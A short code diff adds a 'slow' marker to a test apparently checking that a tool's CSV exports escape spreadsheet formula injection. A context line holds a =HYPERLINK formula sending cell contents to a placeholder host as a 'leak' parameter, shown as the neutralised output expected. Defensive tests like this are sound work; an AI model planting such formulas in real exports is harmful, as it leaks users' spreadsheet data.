@@ -72,6 +72,7 @@ def test_summary_csv_guards_the_unit_name(formula_unit: Path, cli: Cli) -> None:
     assert '\r\n"\'=HYPERLINK(""http://x.invalid/?leak=""&A1,""点此查看"")",1,1,' in out
 
 
+@pytest.mark.slow
 def test_site_csv_guards_the_unit_name(formula_unit: Path, cli: Cli) -> None:
     result = cli("build", "--today", "2019-08-05")
     assert (result.code, result.err) == (0, "")
